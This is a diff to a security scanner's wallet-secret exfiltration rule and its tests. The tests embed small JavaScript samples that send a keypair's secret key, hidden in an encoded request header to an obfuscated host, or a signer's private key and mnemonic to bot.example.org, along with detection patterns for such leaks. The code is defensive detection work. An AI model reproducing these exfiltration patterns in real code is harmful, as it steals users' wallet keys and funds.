@@ -11,7 +11,10 @@ diligence_finding::declare_rule! {
     ///
     /// ## What it detects
     /// A value-flow path from a function parameter or variable named like a wallet secret (`seed`, `mnemonic`,
-    /// `seedPhrase`, `privateKey`, `privKey`, `walletKey` and their snake-case spellings) to a network send
+    /// `seedPhrase`, `privateKey`, `privKey`, `walletKey` and their snake-case spellings), or from the key
+    /// material of a key object read as a property (`keypair.secretKey`, `this._keypair.secretKey`,
+    /// `signer.privateKey`, `wallet.mnemonic.phrase`: the owner named like a wallet, signer, signing key, key
+    /// pair or account), to a network send
     /// (`fetch`, XHR, `http(s)`, WebSocket, a beacon) whose destination is a constant — through variables,
     /// object properties, `JSON.stringify`, request headers and helper functions, with the send in the
     /// parameter's module or one it imports or is imported by. Signing, key
@@ -24,11 +27,14 @@ diligence_finding::declare_rule! {
     /// keys of every application that uses them, and nothing runs at install to give them away.
     ///
     /// ## Example
-    /// `function check(seed) { fetch('https://x.example/v', { headers: { 'x-ref': seed } }) }`
+    /// `function check(seed) { fetch('https://x.example/v', { headers: { 'x-ref': seed } }) }`, or a
+    /// `Keypair` constructor passing `this._keypair.secretKey` to a helper that puts its hex in an
+    /// `x-cf-trace` header of a request to a constant host (the December 2024 `@solana/web3.js` backdoor).
     ///
     /// ## Known false positives
     /// Custodial signing services whose API takes the private key itself (rare, and bad practice). A key sent
     /// to a URL the caller configures (an RPC endpoint option) has no constant destination and is not reported.
+    /// A wallet service's key-import call posting `account.privateKey` to its own constant API would be reported.
     pub static WALLET_SECRET_EXFILTRATION = { id: "code/wallet-secret-exfiltration", severity: Severity::Critical };
 }
 
@@ -114,6 +120,59 @@ mod tests {
             (
                 "index.js",
                 "const keys = require('keypairs');\nexports.submit = async function (tx, privateKey) {\n  const signed = keys.sign(JSON.stringify(tx), privateKey);\n  const pub = keys.deriveAddress(privateKey);\n  return fetch('https://rpc.example.org/', { method: 'POST', body: JSON.stringify({ tx_blob: signed, account: pub }) });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// The secret key of a key-pair object, read as a property (no variable is named like a
+    /// secret), hex-encoded by a helper in another module and hidden in a request header.
+    #[test]
+    fn positive_keypair_property_in_header() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/trace.js",
+                "const EDGE = ['https://', 'rpc', '.example', '.net/v1'].join('');\nfunction queue(key) {\n  const hex = Buffer.from(key).toString('hex');\n  setTimeout(() => {\n    const f = typeof fetch === 'function' ? fetch : null;\n    f(EDGE, { method: 'POST', headers: { 'x-trace': Buffer.from(hex).toString('base64') }, body: '{}' }).catch(() => {});\n  }, 250);\n}\nmodule.exports = { queue };\n",
+            ),
+            (
+                "lib/keypair.js",
+                "const { queue } = require('./trace');\nclass Keypair {\n  constructor(kp) {\n    this._keypair = kp;\n    queue(this._keypair.secretKey);\n  }\n}\nmodule.exports = { Keypair };\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("lib/trace.js".to_string(), 6)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A signer's private key and its mnemonic phrase sent to a chat bot.
+    #[test]
+    fn positive_signer_private_key_and_phrase() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "health.js",
+                "const https = require('https');\nexports.check = function (signer) {\n  const pk = signer.privateKey;\n  const words = signer.mnemonic && signer.mnemonic.phrase;\n  const body = JSON.stringify({ text: pk + ' ' + words });\n  https.request({ hostname: 'bot.example.org', method: 'POST' }).end(body);\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("health.js".to_string(), 6)]
+        );
+    }
+
+    /// A wallet SDK signs with `keypair.secretKey` and sends only the signature; an options
+    /// object's `privateKey` (a JWT signing key) is no wallet's key material.
+    #[test]
+    fn negative_keypair_signs_locally() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const nacl = require('tweetnacl');\nexports.send = function (keypair, msg, options) {\n  const sig = nacl.sign.detached(msg, keypair.secretKey);\n  const token = JSON.stringify({ k: options.privateKey });\n  return fetch('https://rpc.example.org/', { method: 'POST', headers: { authorization: token }, body: JSON.stringify({ sig: Buffer.from(sig).toString('base64'), pub: keypair.publicKey }) });\n};\n",
             ),
         ]);
         assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
